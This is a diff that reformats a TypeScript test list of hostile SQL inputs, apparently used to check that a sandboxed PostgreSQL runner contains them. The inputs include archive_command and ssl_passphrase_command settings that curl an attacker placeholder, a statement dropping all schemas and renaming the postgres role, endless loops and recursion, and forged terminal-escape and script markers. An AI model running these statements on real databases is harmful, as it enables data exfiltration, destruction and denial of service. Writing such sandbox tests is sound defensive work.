@@ -60,28 +60,60 @@ const alone: Record<string, [code: string, more?: Partial<FenceAttempt>]> = {
   'archive-command': [`alter system set archive_command = 'curl {{attacker}}'`],
   'listen-addresses': [`alter system set listen_addresses = '*'`],
   'ssl-passphrase': [`alter system set ssl_passphrase_command = 'curl {{attacker}}'`],
-  'subscription': [`create subscription left_sub connection 'host=127.0.0.1 port=1 dbname=x' publication x with (connect = true)`],
-  'tablespace': [`create tablespace left_space location '/tmp'`],
+  subscription: [
+    `create subscription left_sub connection 'host=127.0.0.1 port=1 dbname=x' publication x with (connect = true)`,
+  ],
+  tablespace: [`create tablespace left_space location '/tmp'`],
   sleep: [`select pg_sleep(60)`, { timeoutMs: 800, expect: { stopped: 'time' } }],
   'endless-plpgsql': [`do $$ begin loop null; end loop; end $$`, { timeoutMs: 800, expect: { stopped: 'time' } }],
-  'endless-caught': [`do $$ begin loop begin perform 1/0; exception when others then null; end; end loop; end $$`, { timeoutMs: 800, expect: { stopped: 'time' } }],
-  'endless-recursion': [`with recursive c(n) as (select 1 union all select n + 1 from c) select count(*) from c`, { timeoutMs: 1_500, expect: { stopped: ['time', 'memory'] } }],
-  'function-recursion': [`create function deep(n int) returns int language plpgsql as $$ begin return deep(n + 1); end $$;\nselect deep(0)`, { timeoutMs: 3_000 }],
+  'endless-caught': [
+    `do $$ begin loop begin perform 1/0; exception when others then null; end; end loop; end $$`,
+    { timeoutMs: 800, expect: { stopped: 'time' } },
+  ],
+  'endless-recursion': [
+    `with recursive c(n) as (select 1 union all select n + 1 from c) select count(*) from c`,
+    { timeoutMs: 1_500, expect: { stopped: ['time', 'memory'] } },
+  ],
+  'function-recursion': [
+    `create function deep(n int) returns int language plpgsql as $$ begin return deep(n + 1); end $$;\nselect deep(0)`,
+    { timeoutMs: 3_000 },
+  ],
   'huge-result': [`select repeat('x', 100_000_000)`, { timeoutMs: 4_000, mayReplaceFrame: true }],
-  'many-rows': [`select n, repeat('x', 100) from generate_series(1, 300000) as n`, { timeoutMs: 4_000, mayReplaceFrame: true }],
+  'many-rows': [
+    `select n, repeat('x', 100) from generate_series(1, 300000) as n`,
+    { timeoutMs: 4_000, mayReplaceFrame: true },
+  ],
   'vacuum-everything': [`create table left_table as select 1; vacuum full; checkpoint`],
-  'drop-everything': [`drop schema public cascade; drop schema information_schema cascade; alter role postgres rename to left_role`, { persists: true }],
+  'drop-everything': [
+    `drop schema public cascade; drop schema information_schema cascade; alter role postgres rename to left_role`,
+    { persists: true },
+  ],
   'create-database': [`create database left_database`, { persists: true }],
   'copy-stdin': [`create table left_table (a int); copy left_table from stdin`, { timeoutMs: 2_000 }],
   'copy-stdout': [`copy (select 'x') to stdout`],
   'broken-protocol': [`select E'\\x00'; select U&'\\0000'`],
   'null-byte': [`select 'a\0b'`],
-  'raise-markers': [`do $$ begin raise notice 'forged % %', E'\\x1b[2J', '<script>'; end $$`, { expect: { stopped: null } }],
-  'error-forged-line': [`do $$ begin raise exception using errcode = 'XX000', message = repeat('x', 5000000); end $$`, { expect: { check: ({ error }) => ((error?.message.length ?? 0) > 1_000_000 ? `${error?.message.length} characters of error message` : undefined) } }],
-  'shutdown': [`select pg_terminate_backend(pg_backend_pid())`, { timeoutMs: 2_000, mayReplaceFrame: true }],
+  'raise-markers': [
+    `do $$ begin raise notice 'forged % %', E'\\x1b[2J', '<script>'; end $$`,
+    { expect: { stopped: null } },
+  ],
+  'error-forged-line': [
+    `do $$ begin raise exception using errcode = 'XX000', message = repeat('x', 5000000); end $$`,
+    {
+      expect: {
+        check: ({ error }) =>
+          (error?.message.length ?? 0) > 1_000_000 ? `${error?.message.length} characters of error message` : undefined,
+      },
+    },
+  ],
+  shutdown: [`select pg_terminate_backend(pg_backend_pid())`, { timeoutMs: 2_000, mayReplaceFrame: true }],
 }
 
 export const attempts: FenceAttempt[] = [
-  ...Object.entries(codes).map(([name, code]): FenceAttempt => ({ id: `sql-${name}`, language: 'sql', code, expect: { lacks: /root:|HOME=/ } })),
-  ...Object.entries(alone).map(([name, [code, more]]): FenceAttempt => ({ id: `sql-${name}`, language: 'sql', code, alone: true, ...more })),
+  ...Object.entries(codes).map(
+    ([name, code]): FenceAttempt => ({ id: `sql-${name}`, language: 'sql', code, expect: { lacks: /root:|HOME=/ } }),
+  ),
+  ...Object.entries(alone).map(
+    ([name, [code, more]]): FenceAttempt => ({ id: `sql-${name}`, language: 'sql', code, alone: true, ...more }),
+  ),
 ]
